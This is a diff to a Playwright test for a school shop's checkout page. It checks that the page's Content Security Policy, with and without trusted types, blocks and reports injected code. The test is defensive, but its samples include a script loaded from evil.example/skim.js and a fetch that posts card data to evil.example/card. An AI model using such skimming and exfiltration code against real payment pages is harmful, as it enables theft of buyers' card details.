@@ -1,13 +1,21 @@
-import type { Page } from '@playwright/test';
+import type { Page, Route } from '@playwright/test';
 import { aBuyer, aDeal, expect, goToCheckout, test } from '../support/shop';
 
 const SCHOOL = 'Northlake Middle School';
 const EVIL = 'https://evil.example';
 
-/** What code that got into the page would try, and the directive that stops it. Each says `stolen` if it runs. */
-const TAMPERINGS: Record<string, readonly [directive: string, code: (evil: string) => void]> = {
+/** The page's own policy for scripts, in browsers that know it: it refuses the text or the address before the browser looks at either. */
+const TYPES = 'require-trusted-types-for';
+
+type Tampering = readonly [directives: string | readonly [typed: string, untyped: string], code: (evil: string) => void];
+
+/**
+ * What code that got into the page would try, and the directive that stops it, the second one where the browser knows no trusted types.
+ * Each says `stolen` if it runs.
+ */
+const TAMPERINGS: Record<string, Tampering> = {
   'an inline script': [
-    'script-src-elem',
+    [TYPES, 'script-src-elem'],
     () => {
       const script = document.createElement('script');
       script.textContent = 'globalThis.stolen = true';
@@ -15,7 +23,7 @@ const TAMPERINGS: Record<string, readonly [directive: string, code: (evil: strin
     },
   ],
   'a script from elsewhere': [
-    'script-src-elem',
+    [TYPES, 'script-src-elem'],
     (evil) => {
       const script = document.createElement('script');
       script.src = `${evil}/skim.js`;
@@ -23,7 +31,7 @@ const TAMPERINGS: Record<string, readonly [directive: string, code: (evil: strin
     },
   ],
   'an import map': [
-    'script-src-elem',
+    [TYPES, 'script-src-elem'],
     () => {
       const map = document.createElement('script');
       map.type = 'importmap';
@@ -32,7 +40,7 @@ const TAMPERINGS: Record<string, readonly [directive: string, code: (evil: strin
     },
   ],
   'a handler in an attribute': [
-    'script-src-attr',
+    [TYPES, 'script-src-attr'],
     () => {
       const button = document.createElement('button');
       button.setAttribute('onclick', 'globalThis.stolen = true');
@@ -41,7 +49,7 @@ const TAMPERINGS: Record<string, readonly [directive: string, code: (evil: strin
     },
   ],
   'text as code': [
-    'script-src',
+    [TYPES, 'script-src'],
     () => {
       // The test's own call may do what the page may not.
       setTimeout(() => {
@@ -88,7 +96,7 @@ const TAMPERINGS: Record<string, readonly [directive: string, code: (evil: strin
     },
   ],
   'a worker from text': [
-    'worker-src',
+    [TYPES, 'worker-src'],
     () => {
       const text = new Blob(['postMessage("stolen")'], { type: 'text/javascript' });
       const worker = new Worker(URL.createObjectURL(text));
@@ -96,6 +104,15 @@ const TAMPERINGS: Record<string, readonly [directive: string, code: (evil: strin
     },
   ],
   'a request that carries the card away': ['connect-src', (evil) => void fetch(`${evil}/card`, { method: 'POST' }).catch(() => undefined)],
+  'a stylesheet as text': [
+    'style-src-elem',
+    () => {
+      const style = document.createElement('style');
+      style.textContent = 'body { display: none }';
+      document.head.append(style);
+    },
+  ],
+  'a style as an attribute': ['style-src-attr', () => document.body.setAttribute('style', 'display: none')],
   'a stylesheet from elsewhere': [
     'style-src-elem',
     (evil) => {
@@ -118,23 +135,43 @@ function reportsOf(page: Page): string[] {
   return taken;
 }
 
-test('code that got into the payment page is stopped and reported, whatever it tries', async ({ page, database, watch }) => {
-  watch.expected.push(/Content Security Policy|blocked|ERR_|evil\.example/i);
-  const reports = reportsOf(page);
-  const asked: string[] = [];
-  await page.route(`${EVIL}/**`, (route) => {
-    asked.push(route.request().url());
-    return route.abort();
+/** Whether the browser knows trusted types; this one does, and forgets them when the policy says nothing of them. */
+const BROWSERS = [
+  ['a browser with trusted types', true],
+  ['one without', false],
+] as const;
+
+for (const [browser, isTyped] of BROWSERS)
+  test(`code that got into the payment page is stopped and reported, whatever it tries: ${browser}`, async ({ page, database, watch }) => {
+    watch.expected.push(/Content Security Policy|This document requires 'Trusted|blocked|ERR_|evil\.example/i);
+    const reports = reportsOf(page);
+    const asked: string[] = [];
+    await page.route(`${EVIL}/**`, (route) => {
+      asked.push(route.request().url());
+      return route.abort();
+    });
+    if (!isTyped) await page.route((url) => !url.pathname.includes('.') && !url.pathname.startsWith('/api/'), withoutTypes);
+    const deal = await aDeal(database);
+    await goToCheckout(page, deal.title, SCHOOL, aBuyer());
+    expect(reports).toEqual([]);
+    for (const [what, [directives, code]] of Object.entries(TAMPERINGS)) {
+      const before = reports.length;
+      // What the page's own policy refuses throws at once.
+      await page.evaluate(code, EVIL).catch((error: unknown) => expect(String(error)).toMatch(/Trusted/));
+      const [typed, untyped] = [directives].flat() as [string, string?];
+      const directive = isTyped ? typed : (untyped ?? typed);
+      await expect.poll(() => reports.slice(before), { message: what, timeout: 60_000 }).toContain(directive);
+    }
+    expect(asked).toEqual([]);
+    expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
+    expect(await page.evaluate(() => document.body.innerText)).toContain(deal.title);
   });
-  const deal = await aDeal(database);
-  await goToCheckout(page, deal.title, SCHOOL, aBuyer());
-  expect(reports).toEqual([]);
-  for (const [what, [directive, code]] of Object.entries(TAMPERINGS)) {
-    const before = reports.length;
-    await page.evaluate(code, EVIL);
-    await expect.poll(() => reports.slice(before), { message: what, timeout: 60_000 }).toContain(directive);
-  }
-  expect(asked).toEqual([]);
-  expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
-  expect(await page.evaluate(() => document.body.innerText)).toContain(deal.title);
-});
+
+async function withoutTypes(route: Route): Promise<void> {
+  if (!route.request().isNavigationRequest()) return route.fallback();
+  const response = await route.fetch();
+  const headers = response.headers();
+  const policy = headers['content-security-policy']!.replace(/require-trusted-types-for[^;]*; trusted-types[^;]*; /, '');
+  expect(policy).not.toContain('trusted');
+  return route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy } });
+}
